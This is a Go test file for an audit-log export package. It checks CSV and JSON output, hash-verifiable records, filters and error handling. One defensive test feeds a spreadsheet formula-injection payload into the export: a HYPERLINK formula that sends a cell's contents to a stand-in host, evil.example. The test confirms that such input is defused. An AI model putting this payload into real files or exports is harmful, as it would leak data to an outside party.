package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hmisauth/hmisauth"
	"github.com/hmisauth/hmisauth/audit"
)

func TestExportCSV(t *testing.T) {
	evs := chain(2)
	evs[1].Detail = `reason: "wrong password", twice` + "\nsecond line"
	var out bytes.Buffer
	if err := audit.Export(t.Context(), &out, "csv", memLog{evs: evs}, audit.Filter{}); err != nil {
		t.Fatal(err)
	}
	want := "id,time,site,actor,subject,action,client_addr,detail,hash\n" +
		"1,2026-03-02T09:30:00.123456Z,live,helpdesk,user1,user_unlocked,192.0.2.10,event 1," + hex.EncodeToString(evs[0].Hash) + "\n" +
		"2,2026-03-02T09:31:00.123456Z,live,helpdesk,user2,user_unlocked,192.0.2.10,\"reason: \"\"wrong password\"\", twice\nsecond line\"," +
		hex.EncodeToString(evs[1].Hash) + "\n"
	if out.String() != want {
		t.Fatalf("CSV export:\n%s\nwant:\n%s", out.String(), want)
	}
}

// A failed sign-in's subject is whatever the visitor typed; opened in a spreadsheet, the
// export must not run it.
func TestExportCSVDefusesFormulas(t *testing.T) {
	for _, tc := range []struct{ typed, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1-555-0100", "'+1-555-0100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"jdoe", "jdoe"},
		{"", ""},
	} {
		ev := chain(1)[0]
		ev.Subject = tc.typed
		var out bytes.Buffer
		if err := audit.Export(t.Context(), &out, "csv", memLog{evs: []*hmisauth.Event{ev}}, audit.Filter{}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v", tc.typed, len(rows), err)
		}
		if got := rows[1][4]; got != tc.want {
			t.Errorf("subject %q exported as %q, want %q", tc.typed, got, tc.want)
		}
	}
}

// A JSON export is exact: each record can be checked against its own hash outside hmisauth.
func TestExportJSONIsOneArrayOfCheckableRecords(t *testing.T) {
	evs := chain(3)
	evs[2].Detail = "<script> & \"quotes\""
	evs[2].Hash = hmisauth.EventHash(evs[2].PrevHash, evs[2])
	var out bytes.Buffer
	if err := audit.Export(t.Context(), &out, "json", memLog{evs: evs}, audit.Filter{}); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(strings.TrimSpace(out.String()), "\n"); len(lines) != 5 || lines[0] != "[" || lines[4] != "]" {
		t.Errorf("want [, one event per line, ]; got:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "<script> & ") {
		t.Errorf("the detail was HTML-escaped:\n%s", out.String())
	}
	var recs []audit.Record
	if err := json.Unmarshal(out.Bytes(), &recs); err != nil || len(recs) != 3 {
		t.Fatalf("%d records, %v:\n%s", len(recs), err, out.String())
	}
	for i, r := range recs {
		at, err := time.Parse(time.RFC3339, r.Time)
		if err != nil {
			t.Fatal(err)
		}
		prev, _ := hex.DecodeString(r.PrevHash)
		ev := &hmisauth.Event{Site: r.Site, At: at, Actor: r.Actor, Subject: r.Subject, Action: r.Action,
			ClientAddr: r.ClientAddr, Detail: r.Detail}
		if got := hex.EncodeToString(hmisauth.EventHash(prev, ev)); r.ID != evs[i].ID || got != r.Hash {
			t.Errorf("record %d: ID %d, recomputed hash %s, exported %s", i, r.ID, got, r.Hash)
		}
	}
}

func TestExportFilters(t *testing.T) {
	evs := chain(4)
	evs[1].Site = "training"
	for _, tc := range []struct {
		name string
		f    audit.Filter
		want []int64
	}{
		{"all", audit.Filter{}, []int64{1, 2, 3, 4}},
		{"site", audit.Filter{Site: "live"}, []int64{1, 3, 4}},
		{"since, inclusive", audit.Filter{Since: evs[2].At}, []int64{3, 4}},
		{"both", audit.Filter{Site: "training", Since: evs[2].At}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := audit.Export(t.Context(), &out, "json", memLog{evs: evs}, tc.f); err != nil {
				t.Fatal(err)
			}
			var recs []audit.Record
			if err := json.Unmarshal(out.Bytes(), &recs); err != nil {
				t.Fatalf("%v:\n%s", err, out.String())
			}
			var got []int64
			for _, r := range recs {
				got = append(got, r.ID)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("exported %v, want %v", got, tc.want)
			}
		})
	}
}

func TestExportOfNothing(t *testing.T) {
	for format, want := range map[string]string{"json": "[]\n", "csv": strings.Join(audit.CSVHeader, ",") + "\n"} {
		var out bytes.Buffer
		if err := audit.Export(t.Context(), &out, format, memLog{}, audit.Filter{}); err != nil || out.String() != want {
			t.Errorf("%s export of an empty log: %q, %v; want %q", format, out.String(), err, want)
		}
	}
}

func TestExportRefusesAnUnknownFormat(t *testing.T) {
	var out bytes.Buffer
	err := audit.Export(t.Context(), &out, "xml", memLog{evs: chain(1)}, audit.Filter{})
	if err == nil || !strings.Contains(err.Error(), "csv or json") || out.Len() != 0 {
		t.Fatalf("err = %v, output %q", err, out.String())
	}
}

func TestExportPassesOnAReadError(t *testing.T) {
	broken := errors.New("disk I/O error")
	var out bytes.Buffer
	if err := audit.Export(t.Context(), &out, "csv", memLog{evs: chain(2), err: broken}, audit.Filter{}); !errors.Is(err, broken) {
		t.Fatalf("err = %v, want the read error", err)
	}
}
